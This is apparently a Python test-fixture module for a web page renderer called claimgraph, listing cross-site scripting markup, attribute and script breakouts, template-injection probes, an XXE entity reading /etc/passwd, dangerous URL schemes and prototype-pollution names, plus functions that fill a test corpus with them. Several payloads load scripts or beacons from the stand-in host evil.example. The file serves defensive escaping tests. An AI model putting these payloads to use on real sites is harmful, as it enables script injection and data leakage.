"""Texts that somebody may write into a corpus, or into a page that a corpus quotes, and corpora that are full of them."""

from __future__ import annotations

from typing import Any

from page_fixtures import made_claim, made_conflict, made_entity, made_page, made_source

from claimgraph.views.pageorigins import Origins

__all__ = ["ADDRESSES", "HASHES", "HOSTILE", "NAMES_OF_OBJECTS", "TITLE", "hostile_ids_page", "hostile_page"]

#: Markup that runs, loads, hides or sends something, if it is taken for markup.
MARKUP = [
    "<script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "</SCRIPT ><img src=x onerror=window.hacked=1>",
    "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "<script/src=data:,window.hacked=1></script>",
    "<script src=https://evil.example/x.js></script>",
    "<script type=module>window.hacked=1</script>",
    '<script id="data">{}</script>',
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/"]}]}</script>',
    '<script type="importmap">{"imports":{"x":"https://evil.example/x.js"}}</script>',
    "<img src=x onerror='window.hacked=1'>",
    "<img src=https://evil.example/pixel.png>",
    "<img srcset='https://evil.example/a 1x, https://evil.example/b 2x'>",
    "<picture><source srcset=https://evil.example/p><img></picture>",
    "<video src=x onerror=window.hacked=1 poster=https://evil.example/p></video>",
    "<audio autoplay src=https://evil.example/a onerror=window.hacked=1>",
    "<svg/onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><script href='data:,window.hacked=1'/></svg>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<svg><use href='https://evil.example/s.svg#a'/></svg>",
    "<svg><foreignObject><iframe src=javascript:parent.hacked=1></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src='https://evil.example/'></iframe>",
    "<object data='data:text/html,<script>parent.hacked=1</script>'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<portal src=https://evil.example/>",
    "<a href='javascript:window.hacked=1'>href</a>",
    "<a href=https://evil.example/ target=_top autofocus onfocus=window.hacked=1>",
    "<a ping=https://evil.example/ href=#>ping</a>",
    "<area href=javascript:window.hacked=1>",
    "<style>body{display:none}</style>",
    "</style><script>window.hacked=1</script>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/b)'>styled</p>",
    "</title><script>window.hacked=1</script>",
    "</textarea><script>window.hacked=1</script>",
    "</noscript><script>window.hacked=1</script>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "<plaintext>",
    "<xmp><script>window.hacked=1</script></xmp>",
    "<!-- <script> -->",
    "--><script>window.hacked=1</script><!--",
    "<!--><script>window.hacked=1</script>",
    "<![CDATA[<script>window.hacked=1</script>]]>",
    "<?xml-stylesheet href='https://evil.example/x.css'?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/><link rel=dns-prefetch href=//evil.example>",
    "<form action=https://evil.example/><input autofocus onfocus=window.hacked=1>",
    "<button form=x formaction=javascript:window.hacked=1>press</button>",
    "<input type=image src=x onerror=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<dialog open onclose=window.hacked=1>",
    "<body onload=window.hacked=1>",
    "<marquee onstart=window.hacked=1>",
    "<custom-element onclick=window.hacked=1 tabindex=1 autofocus>",
    "<template shadowrootmode=open><script>window.hacked=1</script></template>",
    "<b>bold</b> <i>in a label</i> *bold* _italic_ `code`",
    "<div id=data></div><div id=panel></div><a id=DATA name=CLAIMS></a>",
]
#: Ways out of attributes, scripts, templates, styles, and what is decoded once too often.
BREAKOUTS = [
    '" onmouseover="window.hacked=1',
    "' onfocus='window.hacked=1' autofocus='",
    "x' style='position:fixed;inset:0",
    "`${window.hacked=1}`",
    "'; window.hacked=1; //",
    '"; window.hacked=1; //',
    "\\'; window.hacked=1; //",
    '\\"}]};window.hacked=1//',
    "*/window.hacked=1/*",
    "});window.hacked=1;({",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ewindow.hacked=1\\x3c/script\\x3e",
    "{{7*7}}",
    "{% raw %}{{ config }}{% endraw %}",
    "{# comment #}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "}</style>*{display:none}",
    "url(https://evil.example/)",
    "expression(window.hacked=1)",
    "javascript:window.hacked=1",
    "javascript&colon;window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#x3c;script&#x3e;window.hacked=1",
    "&amp;lt;img src=x onerror=window.hacked=1&amp;gt;",
    "%00%0a%3Cscript%3Ewindow.hacked=1%3C/script%3E",
    "+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
    "$& $1 $` $' $$",
    "%s %d %o %c",
]
#: Letters that are hard to show: other directions, nothing at all, far too many.
LETTERS = [
    "line\u2028separator\u2029paragraph",
    "tab\tand\u000bvertical\u000cfeed",
    "null\u0000byte and \u0001 \u001b[31m \u007f",
    "right\u202eto left\u202c and \u2066isolated\u2069",
    "zero\u200bwidth\u200d\ufeffjoined",
    "soft\u00adhyphen\u2060word\u180ejoiner",
    "Ⓤnicode 日本語 العربية עברית 🦄 ﷽",
    "👩\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈 🇩🇪 e\u0301 \u1e9e ﬀ Ⅷ",
    "Z\u0351\u036b\u0343\u036a\u0302\u0369\u0351a\u0334l\u0335g\u0336o\u0337",
    "\U000e0001\U000e0041 tags and \ue000 private \U0010ffff last",
    "\ufffd\ufffe\uffff no characters",
    "x" * 4000,
    "many words " * 300,
    "مرحبا " * 60,
    "1e999",
    "NaN",
    "-0",
    "undefined",
    "null",
    "true",
    "[object Object]",
]
#: Names that every object of JavaScript knows already.
NAMES_OF_OBJECTS = ["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "length", "then"]

HOSTILE = [*MARKUP, *BREAKOUTS, *LETTERS, *NAMES_OF_OBJECTS]
TITLE = " ".join(text for text in HOSTILE if len(text) < 100 and "\u0000" not in text)

#: Addresses that must not become links, but for the last.
ADDRESSES = [
    "javascript:window.hacked=1",
    " javascript:window.hacked=1",
    "JaVaScRiPt:window.hacked=1",
    "java\nscript:window.hacked=1",
    "\u0001javascript:window.hacked=1",
    "javascript://example.org/%0awindow.hacked=1",
    "data:text/html,<script>1</script>",
    "blob:https://example.org/1",
    "vbscript:x",
    "file:///etc/passwd",
    "filesystem:https://example.org/x",
    "about:blank",
    "view-source:https://example.org/",
    "ms-word:ofe|u|https://example.org/x",
    "mailto:a@example.org",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "no address",
    "",
    'https://example.org/?a=<b>&c="d"',
]

#: What may stand behind an address that somebody sends.
HASHES = [
    "#<script>window.hacked=1</script>",
    "#claim=<script>window.hacked=1</script>",
    "#claim=%3Cimg%20src=x%20onerror=window.hacked=1%3E",
    "#claim=%",
    "#claim=%E0%A4%A",
    "#%",
    "#=",
    "#&&&===",
    "#claim",
    "#claim=claim:c1&claim=claim:c2",
    "#node=__proto__",
    "#__proto__=1&constructor=2&toString=3",
    "#view=nowhere",
    "#view=__proto__",
    "#view=constructor",
    "#hide=__proto__:x",
    "#hide=:::,,,",
    "#hide=How%20firmly:<b>,constructor",
    "#from=yesterday&to=<b>",
    "#from=9999-99-99&to=-1",
    "#from=2026-12-31&to=2026-01-01",
    "#focus=nobody&depth=2",
    "#focus=org:e1&depth=1e9",
    "#focus=org:e1&depth=-1",
    "#focus=org:e1&depth=NaN",
    "#path=org:e1,nobody",
    "#path=__proto__",
    "#q=<img src=x onerror=window.hacked=1>",
    "#q=%00%0a",
    "#theme=<b>",
    "#all=yes",
    "#javascript:window.hacked=1",
    "#:~:text=claim",
    "#" + "x" * 100_000,
    "#" + "&".join(f"a{n}=b" for n in range(2000)),
]


def _hop(n: int, text: str) -> dict[str, Any]:
    return {"agent": None, "unnamed": text, "source": f"src:s{n}", "speech": text, "cue": text, "role": text, "count": 2}


def _date(text: str, n: int) -> dict[str, Any]:
    day = f"2026-{1 + n % 12:02}-{1 + n % 28:02}"
    return {"value": None, "datatype": None, "lang": None, "label": text, "earliest": day, "latest": day, "exactness": "cg:exactly"}


def hostile_page(**options: Any) -> str:
    """Draw a corpus whose every text is an attack: claim, entity and source number n show the n-th of them."""
    entities, sources, claims = {}, {}, []
    words: dict[str, str] = {}
    last = len(HOSTILE) - 1
    for n, text in enumerate(HOSTILE):
        others = [f"claim:c{last - n}"] if n != last - n else []
        words |= {f":p{n}": text, f"word:w{n}": text, f"unit:u{n}": text, f"cg:x{n}": text, f"type:t{n}": text}
        entities[f"org:e{n}"] = made_entity(text, f"type:t{n}", f"<{text}>", aliases=[text], sameAs=[*ADDRESSES, text], description=text)
        sources[f"src:s{n}"] = made_source(
            text,
            type=text,
            url=ADDRESSES[n % len(ADDRESSES)],
            publisher=f"org:e{n}",
            published=text,
            earliest="2026-01-01",
            latest="2026-12-31",
        )
        literal = {"value": text, "datatype": text, "lang": None}
        amount = {
            "id": f"val:{text}",
            "type": "cg:Amount",
            "schema:value": literal,
            "qudt:unit": f"unit:u{n}",
            "cg:exactness": f"cg:x{n}",
            "cg:setting": literal,
        }
        claims.append(
            made_claim(
                n,
                [
                    [f"org:e{n}", f"<{text}>", literal],
                    [f"org:e{n}", f":p{n}", f"org:e{(n + 1) % len(HOSTILE)}"],
                    [f"org:e{n}", f":p{n}", f"word:w{n}"],
                    [f"org:e{n}", ":cost", amount],
                    [f"org:e{n}", ":score", amount | {"schema:variableMeasured": f"org:e{(n + 2) % len(HOSTILE)}"}],
                ],
                label=text,
                source=f"src:s{n}",
                note=text,
                attribution=[_hop(n, text), _hop(n, text) | {"agent": f"org:e{n}", "unnamed": None}],
                modality=text,
                polarity=text,
                stance=text,
                status=[text],
                evidence=[{"start": 1, "end": 2, "sha256": "0", "verified": None, "quote": text}],
                said=_date(text, n),
                due=_date(text, n + 1),
                relations={"disputes": others, "disputedBy": others},
                assessments=[{"verdict": text, "agent": f"org:e{n}", "source": f"src:s{n}", "said": _date(text, n), "rating": text, "note": text}],
            )
        )  # fmt: skip
    count = len(HOSTILE)
    conflicts = [
        made_conflict(f"claim:c{n}", f"claim:c{(n + 1) % count}", why=text, kind=text, subject=f"org:e{n}", values=(text, text))
        | {"heading": text}
        for n, text in enumerate(HOSTILE)
    ]
    findings = {
        "updates": [_update(n, text) for n, text in enumerate(HOSTILE)],
        "incomparable": [_apart(n, text) for n, text in enumerate(HOSTILE)],
        "promises": [_promise(n, text) for n, text in enumerate(HOSTILE)],
        "origins": Origins(
            [[{"id": f"org:e{n}", "name": text}, {"id": text, "name": text}] for n, text in enumerate(HOSTILE)],
            [{"ends": [n], "unknown": 1, "circular": 0} for n in range(count)],
            {f"claim:c{n}": {"kind": text, "ends": [n], "anonymous": True, "statement": n} for n, text in enumerate(HOSTILE)},
        ),
    }
    bylines = {f"src:s{n}": (f"org:e{n}", text) for n, text in enumerate(HOSTILE)}
    return made_page(
        claims,
        entities,
        sources,
        words=words,
        conflicts=conflicts,
        findings=findings,
        title=TITLE,
        bylines=bylines,
        **{"notes": HOSTILE[:40]} | options,
    )


def _steps(n: int, text: str) -> list[dict[str, Any]]:
    step = {"when": text, "value": text, "note": text, "unsure": bool(n % 2)}
    return [step | {"claims": [f"claim:c{n}"]}, step | {"claims": [f"claim:c{(n + 1) % len(HOSTILE)}", text]}]


def _update(n: int, text: str) -> dict[str, Any]:
    return {"subject": f"org:e{n}", "heading": text, "why": text, "contested": False, "steps": _steps(n, text)}


def _apart(n: int, text: str) -> dict[str, Any]:
    return {"subject": text, "heading": text, "why": text, "sides": [{"value": text, "claims": [f"claim:c{n}"]}]}


def _promise(n: int, text: str) -> dict[str, Any]:
    due = {"text": text, "earliest": text, "latest": text, "vague": False}
    made = {"subject": f"org:e{n}", "name": text, "predicate": text, "object": text, "outcome": text, "timing": text, "came": text}
    already = [{"text": text, "claims": [f"claim:c{n}", text]}]
    lists = {"fulfilledBy": [f"claim:c{n}"], "droppedBy": [text], "already": already, "claims": [f"claim:c{n}"]}
    return made | lists | {"due": due, "moved": n % 3, "moves": [[text, text]], "trail": _steps(n, text), "unordered": [text]}


def hostile_ids_page(**options: Any) -> str:
    """Draw a corpus in which the attacks are the ids of everything, and the kinds."""
    entities = {text: made_entity(f"entity {n}", text) for n, text in enumerate(HOSTILE)}
    sources = {text: made_source(f"source {n}", type=text) for n, text in enumerate(HOSTILE)}
    claims = [
        made_claim(
            n, [[text, text, HOSTILE[n - 1]]], id=text, source=text, modality=f"cg:{text}", relations={"supersedes": [HOSTILE[n - 1]]},
            attribution=[_hop(n, text) | {"agent": text, "source": text}],
            assessments=[{"verdict": f"cg:{text}", "agent": text, "source": text, "said": None, "rating": None, "note": None}],
        )
        for n, text in enumerate(HOSTILE)
    ]  # fmt: skip
    conflicts = [made_conflict(text, HOSTILE[n - 1], kind=text, subject=text) for n, text in enumerate(HOSTILE)]
    return made_page(claims, entities, sources, conflicts=conflicts, **{"focus": [HOSTILE[0]]} | options)
